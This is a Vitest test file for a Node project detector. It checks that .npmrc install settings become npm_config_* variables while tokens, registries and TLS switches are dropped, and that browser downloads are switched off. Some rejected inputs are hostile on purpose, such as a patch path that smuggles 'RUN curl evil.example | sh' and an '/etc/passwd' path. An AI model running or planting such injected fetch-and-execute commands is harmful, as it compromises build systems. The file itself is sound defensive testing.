// What the install needs besides the manifests (issue 13, items 6-8): .npmrc settings carried as
// npm_config_* ENV (never a credential, registry or TLS switch), files the install reads, and the
// switches that stop dev tools from downloading browsers. Detection over in-memory projects.
import { describe, expect, test } from 'vitest';
import { detectProject } from '../../src/detect/index.js';
import { memoryFs } from '../support/memory-fs.js';

const SECRET = 'npm_SeCrEtT0kenValue1234567890abcdef';
const pkg = (fields: Record<string, unknown> = {}) => JSON.stringify({ name: 'app', scripts: { start: 'node index.js' }, ...fields });
const detect = (files: Record<string, string>) => detectProject(memoryFs({ 'package.json': pkg(), 'index.js': '', 'package-lock.json': '{}', ...files }));

describe('.npmrc settings reach the install as npm_config_* ENV', () => {
  test('install settings are carried; credentials, registries, TLS and paths never are', async () => {
    const facts = await detect({
      '.npmrc': [
        'legacy-peer-deps=true',
        'engine-strict = true',
        'auto-install-peers=false',
        'registry=https://npm.example.com/',
        '@acme:registry=https://npm.example.com/acme/',
        `//npm.example.com/:_authToken=${SECRET}`,
        `_auth=${SECRET}`,
        'strict-ssl=false',
        'cafile=/etc/ssl/corp.pem',
        'prefix=/home/me/.npm-global',
        'init-author-name=Jane Doe',
      ].join('\n'),
    });
    expect(facts.install.env).toEqual({
      npm_config_legacy_peer_deps: 'true',
      npm_config_engine_strict: 'true',
      npm_config_auto_install_peers: 'false',
    });
    expect(JSON.stringify(facts)).not.toContain(SECRET);
  });

  test('a value that is not a plain word is left out with a warning, never written', async () => {
    const facts = await detect({ '.npmrc': 'legacy-peer-deps=true\nnode-options="--x"\nfoo=a b\nbar=${HOME}\nbad=x\nRUN evil=1\n' });
    expect(facts.install.env).toEqual({ npm_config_legacy_peer_deps: 'true', npm_config_bad: 'x' });
    expect(facts.warnings.join('\n')).toMatch(/foo is not carried/);
    expect(facts.warnings.join('\n')).toMatch(/bar is not carried/);
    expect(facts.warnings.join('\n')).toMatch(/"RUN evil" is not carried/);
  });

  test('yarn 2+ ignores .npmrc, so nothing is carried for it', async () => {
    const facts = await detectProject(memoryFs({ 'package.json': pkg(), 'index.js': '', 'yarn.lock': '__metadata:\n  version: 8\n', '.yarnrc.yml': 'nodeLinker: node-modules\n', '.npmrc': 'legacy-peer-deps=true\n' }));
    expect(facts.install.env).toEqual({});
  });
});

describe('files the install reads are copied before it', () => {
  test('pnpm: pnpm-workspace.yaml (pnpm 10 build approvals), .pnpmfile.cjs and patchedDependencies', async () => {
    const facts = await detectProject(memoryFs({
      'package.json': pkg({ pnpm: { patchedDependencies: { 'left-pad@1.3.0': 'patches/left-pad@1.3.0.patch' } } }),
      'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
      'pnpm-workspace.yaml': 'onlyBuiltDependencies:\n  - bcrypt\n',
      '.pnpmfile.cjs': 'module.exports = {}',
      'patches/left-pad@1.3.0.patch': '',
      'index.js': '',
    }));
    // The named patch is inside patches/, which is copied whole.
    expect(facts.install.inputs).toEqual([{ path: 'pnpm-workspace.yaml', kind: 'file' }, { path: '.pnpmfile.cjs', kind: 'file' }, { path: 'patches', kind: 'folder' }]);
  });

  test('a patchedDependencies path that leaves the project or carries shell characters stops the run naming the field', async () => {
    for (const bad of ['../outside.patch', 'patches/x.patch\nRUN curl evil.example | sh', '/etc/passwd']) {
      await expect(detectProject(memoryFs({
        'package.json': pkg({ pnpm: { patchedDependencies: { x: bad } } }),
        'pnpm-lock.yaml': '',
        'index.js': '',
      }))).rejects.toThrow(/pnpm\.patchedDependencies\["x"\]/);
    }
  });

  test('patch-package patches/ and a local postinstall script; yarn berry releases and plugins', async () => {
    const npm = await detect({
      'package.json': pkg({ scripts: { start: 'node index.js', postinstall: 'patch-package && node scripts/setup.js' } }),
      'patches/express+5.0.0.patch': '',
      'scripts/setup.js': '',
    });
    expect(npm.install.inputs).toEqual([{ path: 'patches', kind: 'folder' }, { path: 'scripts/setup.js', kind: 'file' }]);

    const berry = await detectProject(memoryFs({
      'package.json': pkg({ packageManager: 'yarn@4.9.2' }),
      'yarn.lock': '__metadata:\n  version: 8\n',
      '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.9.2.cjs\n',
      '.yarn/releases/yarn-4.9.2.cjs': '',
      '.yarn/plugins/plugin.cjs': '',
      'index.js': '',
    }));
    expect(berry.install.inputs).toEqual([{ path: '.yarn/releases', kind: 'folder' }, { path: '.yarn/plugins', kind: 'folder' }]);
  });

  test('a plain app needs nothing extra', async () => {
    const facts = await detect({});
    expect(facts.install).toEqual({ inputs: [], env: {} });
  });
});

describe('dev tools do not download browsers in the build', () => {
  test('cypress, playwright and puppeteer as dev dependencies (or only in the lockfile) get their documented switches', async () => {
    const facts = await detect({
      'package.json': pkg({ devDependencies: { cypress: '^14.0.0', '@playwright/test': '^1.50.0' } }),
      'package-lock.json': JSON.stringify({ packages: { 'node_modules/puppeteer': { version: '24.0.0' } } }),
    });
    expect(facts.install.env).toEqual({ CYPRESS_INSTALL_BINARY: '0', PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD: '1', PUPPETEER_SKIP_DOWNLOAD: '1' });
    expect(facts.warnings).toEqual([]);
  });

  test('puppeteer as a production dependency: still no download, and a warning that says how to get a browser', async () => {
    const facts = await detect({ 'package.json': pkg({ dependencies: { puppeteer: '^24.0.0' } }) });
    expect(facts.install.env).toEqual({ PUPPETEER_SKIP_DOWNLOAD: '1' });
    expect(facts.warnings.join('\n')).toMatch(/puppeteer is a production dependency.*--base slim.*chromium/);
  });
});
